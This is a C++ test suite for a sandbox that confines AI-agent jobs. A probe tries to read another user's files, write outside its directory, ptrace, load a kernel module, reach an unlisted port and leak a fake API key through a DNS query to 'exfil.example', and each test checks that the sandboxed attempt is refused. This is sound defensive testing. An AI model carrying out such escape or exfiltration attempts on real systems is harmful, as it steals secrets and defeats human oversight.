// The guard against a real aiond, playing the agent: a job under the `agent` sandbox tries to
// read another user's home, write outside its work directory, ptrace a process, load a kernel
// module, connect to a loopback listener its allow-list does not name, and leak data through
// a DNS query to a local resolver. Each attempt must be refused and recorded in the job's
// guard record (and the same job without a sandbox must succeed at each, so that the test
// can fail). Needs root, Landlock, seccomp user notification and namespaces (cgroup BPF for
// the network attempts); skips with the reason where one is missing.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "aion/core/json.h"
#include "aion/guard/mechanisms.h"
#include "support/daemon_harness.h"
#include "support/fake_openai.h"
#include "support/sockets.h"
#include "support/test_users.h"

namespace aion::testing {
namespace {

namespace fs = std::filesystem;

// A loopback listener (TCP or UDP) that records what reaches it.
class Listener {
 public:
  explicit Listener(int type) : fd_(bind_loopback(type, port_)), tcp_(type == SOCK_STREAM) {}
  ~Listener() { ::close(fd_); }
  int port() const { return port_; }
  // What arrived within `ms` (a connection's first bytes, or one datagram); "" when nothing.
  std::string received(int ms) {
    pollfd p{fd_, POLLIN, 0};
    if (::poll(&p, 1, ms) <= 0) return "";
    char buf[2048];
    if (!tcp_) {
      const ssize_t n = ::recv(fd_, buf, sizeof buf, MSG_DONTWAIT);
      return n > 0 ? std::string(buf, static_cast<std::size_t>(n)) : "";
    }
    const int c = ::accept(fd_, nullptr, nullptr);
    if (c < 0) return "";
    pollfd q{c, POLLIN, 0};
    std::string out = "(connected)";
    if (::poll(&q, 1, ms) > 0) {
      const ssize_t n = ::recv(c, buf, sizeof buf, 0);
      if (n > 0) out.append(buf, static_cast<std::size_t>(n));
    }
    ::close(c);
    return out;
  }

 private:
  int port_ = 0;  // before fd_: bind_loopback() sets it while fd_ is initialized
  int fd_ = -1;
  bool tcp_ = true;
};

// A test account's home directory, made when missing (and left: tests run in parallel, and
// each keeps to files of its own, named with its pid).
struct Home {
  fs::path path;
  explicit Home(const TestUser& u) : path("/home/" + u.name) {
    fs::create_directories(path);
    (void)!::chown(path.c_str(), u.uid, u.gid);
    fs::permissions(path, fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                              fs::perms::others_read | fs::perms::others_exec);
  }
};

std::string mine(const std::string& name) {
  return name + "-" + std::to_string(::getpid());
}

std::string probe_path() {
  return reachable_program(std::string(AION_BIN_DIR) + "/guard_agent_probe");
}

class GuardTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "needs root (aiond runs sandboxed jobs as root)";
    mech_ = guard::probe_mechanisms();
    for (const auto& m : mech_.rows) {
      if ((m.name == "landlock" || m.name == "seccomp" || m.name == "namespaces") && !m.available)
        GTEST_SKIP() << m.name << " unavailable: " << m.detail;
    }
    alice_ = ensure_user("aion-sec-alice");
    bob_ = ensure_user("aion-sec-bob");
    if (!alice_ || !bob_) GTEST_SKIP() << "cannot create the test accounts (useradd)";
    alice_home_.emplace(*alice_);
    bob_home_.emplace(*bob_);
    std::ofstream(bob_home_->path / mine("notes")) << "bob's private notes\n";
    work_ = alice_home_->path / mine("work");
    fs::create_directories(work_);
    (void)!::chown(work_.c_str(), alice_->uid, alice_->gid);
    // Daemons of tests running at once must not share job cgroups (each would take the
    // other's job-1 for its own).
    parent_ = "aion.test." + std::to_string(::getpid());
    // The site's endpoint table names the test's model server on its port.
    model_ = std::make_unique<FakeModel>(std::vector<Reply>{{200, final_answer("GPU 3 is free")}});
    std::ofstream(h_.dir() / "endpoints.toml")
        << "schema_version = 1\n[[endpoint]]\nname = \"test model server\"\nloopback_ports = ["
        << model_->port() << "]\nsource = \"this test\"\n";
    h_.write_config("[daemon]\nsocket = \"" + h_.socket().string() + "\"\nstate_dir = \"" +
                    h_.state_dir().string() +
                    "\"\nsocket_mode = \"0666\"\n[sched]\ncgroup_parent = \"" + parent_ +
                    "\"\n[guard]\nendpoints_file = \"" + (h_.dir() / "endpoints.toml").string() +
                    "\"\n");
    ASSERT_TRUE(h_.start()) << h_.log();
    old_cwd_ = fs::current_path();
    fs::current_path(work_);  // `aion run` gives the job the caller's working directory
  }
  void TearDown() override {
    if (!old_cwd_.empty()) fs::current_path(old_cwd_);
    if (h_.running()) {
      h_.signal(SIGTERM);
      h_.wait();
    }
    remove_cgroups();
    std::error_code ec;
    if (alice_home_) {
      fs::remove(alice_home_->path / mine("outside"), ec);
      fs::remove_all(work_, ec);
    }
    if (bob_home_) fs::remove(bob_home_->path / mine("notes"), ec);
  }

  struct Run {
    Exit exit;
    long long job = 0;
  };
  // `aion run [--sandbox agent] [--user alice] -- probe ARGS`.
  Run run(bool sandbox, bool as_alice, std::vector<std::string> args,
          std::vector<std::string> allow = {}) {
    std::vector<std::string> argv = {DaemonHarness::aion_path(), "--config", h_.config().string(),
                                     "run"};
    if (sandbox) argv.insert(argv.end(), {"--sandbox", "agent"});
    for (const auto& a : allow) argv.insert(argv.end(), {"--allow-net", a});
    if (as_alice) argv.insert(argv.end(), {"--user", alice_->name});
    argv.push_back("--");
    argv.push_back(probe_path());
    argv.insert(argv.end(), args.begin(), args.end());
    Run r{run_program(argv), 0};
    const auto at = r.exit.out.find("job ");
    if (at != std::string::npos) r.job = std::atoll(r.exit.out.c_str() + at + 4);
    return r;
  }

  // The job's refusals, waiting up to 5 s for one of `kind` naming `what`.
  Json refusal(long long job, const std::string& kind, const std::string& what) {
    for (int i = 0; i < 50; ++i) {
      Exit e = run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "--json",
                            "guard", "log", std::to_string(job)});
      const Json j =
          Json::parse(e.out.substr(std::min(e.out.find('{'), e.out.size())), nullptr, false);
      if (j.is_object()) {
        for (const auto& r : j.value("refusals", Json::array()))
          if (r.value("kind", "") == kind && r.value("what", "").find(what) != std::string::npos)
            return r;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    return Json();
  }

  // The attempt succeeds unconfined, and is refused and recorded in the sandbox.
  void expect_refused(bool as_alice, std::vector<std::string> args, const std::string& kind,
                      const std::string& what, std::vector<std::string> allow = {}) {
    const std::string name = args.front();
    Run free = run(false, as_alice, args);
    EXPECT_NE(free.exit.out.find(name + ": ok"), std::string::npos) << free.exit.out;
    Run boxed = run(true, as_alice, args, allow);
    EXPECT_NE(boxed.exit.out.find(name + ": refused"), std::string::npos) << boxed.exit.out;
    ASSERT_GT(boxed.job, 0) << boxed.exit.out;
    const Json r = refusal(boxed.job, kind, what);
    EXPECT_TRUE(r.is_object()) << name << ": no " << kind << " refusal naming '" << what
                               << "' in job " << boxed.job << "'s record\n"
                               << h_.log();
  }

  // The jobs' cgroups below parent_ in every hierarchy (the jobs have ended by now; what is
  // left is killed first).
  void remove_cgroups() {
    if (parent_.empty()) return;
    std::error_code ec;
    for (const auto& m : fs::directory_iterator("/sys/fs/cgroup", ec)) {
      for (const fs::path& base : {m.path() / parent_, fs::path("/sys/fs/cgroup") / parent_}) {
        if (!fs::is_directory(base, ec)) continue;
        for (int tries = 0; tries < 30 && fs::is_directory(base, ec); ++tries) {
          for (const auto& job : fs::directory_iterator(base, ec)) {
            if (!job.is_directory()) continue;
            std::ifstream procs(job.path() / "cgroup.procs");
            for (pid_t pid; procs >> pid;) ::kill(pid, SIGKILL);
            ::rmdir(job.path().c_str());
          }
          if (::rmdir(base.c_str()) != 0)
            std::this_thread::sleep_for(std::chrono::milliseconds(50));
        }
      }
    }
  }

  void need_cgroup_bpf() {
    if (!mech_.cgroup_bpf) {
      for (const auto& m : mech_.rows)
        if (m.name == "cgroup_bpf") GTEST_SKIP() << "cgroup BPF unavailable: " << m.detail;
    }
  }

  DaemonHarness h_;
  std::unique_ptr<FakeModel> model_;
  std::string parent_;
  guard::Mechanisms mech_;
  std::optional<TestUser> alice_, bob_;
  std::optional<Home> alice_home_, bob_home_;
  fs::path work_, old_cwd_;
};

TEST_F(GuardTest, ReadingAnotherUsersHomeIsRefusedAndRecorded) {
  if (mech_.landlock_abi < 7 || !mech_.audit_readable)
    GTEST_SKIP() << "Landlock records its refusals through the kernel audit from ABI 7 on";
  const std::string secret = (bob_home_->path / mine("notes")).string();
  expect_refused(true, {"read", secret}, "file", "fs.read_file " + secret);
  // The event log shows the path to the job's owner, and to another user only that alice's
  // job was refused a file access.
  auto events_as = [&](uid_t uid) {
    return run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "events",
                        "--kind", "guard"},
                       uid)
        .out;
  };
  const std::string alices = events_as(alice_->uid), bobs = events_as(bob_->uid);
  EXPECT_NE(alices.find(secret), std::string::npos) << alices;
  EXPECT_EQ(bobs.find(secret), std::string::npos) << bobs;
  EXPECT_NE(bobs.find("its sandbox refused a file access"), std::string::npos) << bobs;
}

TEST_F(GuardTest, WritingOutsideTheWorkDirectoryIsRefusedAndRecorded) {
  if (mech_.landlock_abi < 7 || !mech_.audit_readable)
    GTEST_SKIP() << "Landlock records its refusals through the kernel audit from ABI 7 on";
  const std::string outside = (alice_home_->path / mine("outside")).string();
  expect_refused(true, {"write", outside}, "file", outside);
  // Inside its work directory the sandboxed job writes.
  Run inside = run(true, true, {"write", (work_ / "result.txt").string()});
  EXPECT_NE(inside.exit.out.find("write: ok"), std::string::npos) << inside.exit.out;
}

TEST_F(GuardTest, PtraceIsRefusedAndRecorded) {
  expect_refused(true, {"ptrace"}, "syscall", "ptrace");
}

TEST_F(GuardTest, LoadingAKernelModuleIsRefusedAndRecorded) {
  expect_refused(false, {"module"}, "syscall", "init_module");  // as root: only root may try
}

TEST_F(GuardTest, ConnectingToALoopbackListenerNotAllowedIsRefusedAndRecorded) {
  need_cgroup_bpf();
  Listener tcp(SOCK_STREAM);
  const std::string port = std::to_string(tcp.port());
  Run free = run(false, true, {"connect", "127.0.0.1", port});
  EXPECT_NE(free.exit.out.find("connect: ok"), std::string::npos) << free.exit.out;
  EXPECT_EQ(tcp.received(2000), "(connected)hello");
  Run boxed = run(true, true, {"connect", "127.0.0.1", port});
  EXPECT_NE(boxed.exit.out.find("connect: refused (Operation not permitted)"), std::string::npos)
      << boxed.exit.out;
  EXPECT_EQ(tcp.received(300), "");
  EXPECT_TRUE(refusal(boxed.job, "network", "connect tcp 127.0.0.1:" + port).is_object())
      << h_.log();
  // Allowed with --allow-net, the same connection goes through.
  Run allowed = run(true, true, {"connect", "127.0.0.1", port}, {"127.0.0.1:" + port + "/tcp"});
  EXPECT_NE(allowed.exit.out.find("connect: ok"), std::string::npos) << allowed.exit.out;
  EXPECT_EQ(tcp.received(2000), "(connected)hello");
}

// aiond stops while a sandboxed job runs: the job's network policy holds while it is down
// (the job's shim keeps the attachments), and comes back with its record when aiond adopts
// the job again.
TEST_F(GuardTest, TheNetworkPolicyHoldsWhileAiondIsDownAndAfterItsRestart) {
  need_cgroup_bpf();
  Listener tcp(SOCK_STREAM);
  const std::string port = std::to_string(tcp.port());
  Exit submitted =
      run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "submit",
                   "--sandbox", "agent", "--user", alice_->name, "--", probe_path(), "later", "2",
                   "connect", "127.0.0.1", port, "again", "5"});
  ASSERT_EQ(submitted.code, 0) << submitted.out;
  const long long job = std::atoll(submitted.out.c_str());      // submit prints the id
  std::this_thread::sleep_for(std::chrono::milliseconds(800));  // started
  h_.signal(SIGTERM);
  h_.wait();
  std::this_thread::sleep_for(std::chrono::milliseconds(2500));  // the first attempt, unwatched
  EXPECT_EQ(tcp.received(100), "");
  ASSERT_TRUE(h_.start()) << h_.log();
  EXPECT_TRUE(refusal(job, "network", "connect tcp 127.0.0.1:" + port).is_object()) << h_.log();
  EXPECT_EQ(tcp.received(300), "");
  for (int i = 0; i < 50; ++i) {  // its end
    Exit out = run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "logs",
                            std::to_string(job)});
    if (out.out.find("connect: refused", out.out.find("connect: refused") + 1) != std::string::npos)
      return;
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  ADD_FAILURE() << "the job's log lacks two refused connects";
}

TEST_F(GuardTest, LeakingDataThroughDnsToALocalResolverIsRefusedAndRecorded) {
  need_cgroup_bpf();
  Listener resolver(SOCK_DGRAM);
  const std::string port = std::to_string(resolver.port());
  const std::string name = "api-key-sk-aion-test-0123.exfil.example";
  Run free = run(false, true, {"dns", "127.0.0.1", port, name});
  EXPECT_NE(free.exit.out.find("dns: ok"), std::string::npos) << free.exit.out;
  EXPECT_NE(resolver.received(2000).find("api-key-sk-aion-test-0123"), std::string::npos);
  Run boxed = run(true, true, {"dns", "127.0.0.1", port, name});
  EXPECT_NE(boxed.exit.out.find("dns: refused (Operation not permitted)"), std::string::npos)
      << boxed.exit.out;
  EXPECT_EQ(resolver.received(300), "");
  EXPECT_TRUE(refusal(boxed.job, "network", "send udp 127.0.0.1:" + port).is_object()) << h_.log();
}

// A job that talks to a model endpoint it is allowed: its egress record names the endpoint,
// the bytes each way (exactly what the job sent and received) and when.
TEST_F(GuardTest, TheEgressRecordNamesTheEndpointTheBytesAndTheTime) {
  need_cgroup_bpf();
  const std::string port = std::to_string(model_->port());
  auto now_ms = [] {
    return std::chrono::duration_cast<std::chrono::milliseconds>(
               std::chrono::system_clock::now().time_since_epoch())
        .count();
  };
  const auto before = now_ms();
  Run r = run(true, true, {"chat", "127.0.0.1", port}, {"127.0.0.1:" + port + "/tcp"});
  const auto after = now_ms();
  const auto sent_at = r.exit.out.find("sent="), got_at = r.exit.out.find("received=");
  ASSERT_NE(got_at, std::string::npos) << r.exit.out;
  const unsigned long long sent = std::stoull(r.exit.out.substr(sent_at + 5));
  const unsigned long long received = std::stoull(r.exit.out.substr(got_at + 9));
  ASSERT_EQ(model_->received().size(), 1u);
  Json flow;
  for (int i = 0; i < 50 && !flow.is_object(); ++i) {
    Exit e = run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "--json",
                          "guard", "log", std::to_string(r.job)});
    const Json j =
        Json::parse(e.out.substr(std::min(e.out.find('{'), e.out.size())), nullptr, false);
    if (j.is_object() && j.contains("egress") && j["egress"].is_object()) {
      for (const auto& f : j["egress"].value("flows", Json::array()))
        if (f.value("port", 0) == model_->port()) flow = f;
    }
    if (!flow.is_object()) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  ASSERT_TRUE(flow.is_object()) << "no flow to port " << port << "\n" << h_.log();
  EXPECT_EQ(flow.value("name", ""), "test model server");
  EXPECT_EQ(flow.value("address", ""), "127.0.0.1");
  EXPECT_EQ(flow.value("protocol", ""), "tcp");
  EXPECT_EQ(flow.value("bytes_out", 0ULL), sent);
  EXPECT_EQ(flow.value("bytes_in", 0ULL), received);
  EXPECT_GE(flow.value("first_ms", 0LL), before - 1000);
  EXPECT_LE(flow.value("last_ms", 0LL), after + 1000);
}

// Files a job declares (its weights) are checked against their recorded sums before its
// command starts: a changed file keeps the job from running and the job's log says which.
TEST_F(GuardTest, AJobWhoseDeclaredFilesChangedDoesNotStart) {
  std::ofstream(work_ / "weights.bin") << std::string(100000, 'w');
  Exit sum = run_program({"/usr/bin/sha256sum", (work_ / "weights.bin").string()});
  ASSERT_EQ(sum.code, 0) << sum.out;
  std::ofstream(work_ / "SHA256SUMS") << sum.out.substr(0, 64) << "  weights.bin\n";
  auto run_verified = [&] {
    return run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "run",
                        "--verify", (work_ / "SHA256SUMS").string(), "--", "/bin/echo",
                        "training"});
  };
  Exit ok = run_verified();
  EXPECT_EQ(ok.code, 0) << ok.out;
  EXPECT_NE(ok.out.find("every file matches its checksum"), std::string::npos) << ok.out;
  EXPECT_NE(ok.out.find("training"), std::string::npos) << ok.out;
  std::ofstream(work_ / "weights.bin", std::ios::app) << "poisoned";
  Exit bad = run_verified();
  EXPECT_NE(bad.code, 0) << bad.out;
  EXPECT_EQ(bad.out.find("training\n"), std::string::npos) << bad.out;
  EXPECT_NE(bad.out.find("weights.bin  modified"), std::string::npos) << bad.out;
  EXPECT_NE(bad.out.find("declared files do not match"), std::string::npos) << bad.out;
}

// `strict` gives the job no network at all: not even this node's loopback listeners.
TEST_F(GuardTest, TheStrictProfileReachesNoNetwork) {
  Listener tcp(SOCK_STREAM);
  Exit e = run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "run",
                        "--sandbox", "strict", "--user", alice_->name, "--", probe_path(),
                        "connect", "127.0.0.1", std::to_string(tcp.port())});
  EXPECT_NE(e.out.find("connect: refused"), std::string::npos) << e.out;
  EXPECT_EQ(tcp.received(300), "");
}

TEST_F(GuardTest, AnUnknownProfileOrAWorkDirectoryOfTheSystemIsRefusedAtSubmit) {
  Exit e = run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "run",
                        "--sandbox", "no-such-profile", "--", "/bin/true"});
  EXPECT_NE(e.code, 0);
  EXPECT_NE(e.out.find("no sandbox profile 'no-such-profile'"), std::string::npos) << e.out;
  fs::current_path("/");
  e = run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "run", "--sandbox",
                   "agent", "--", "/bin/true"});
  EXPECT_NE(e.code, 0);
  EXPECT_NE(e.out.find("not a directory of the job's own"), std::string::npos) << e.out;
}

}  // namespace
}  // namespace aion::testing
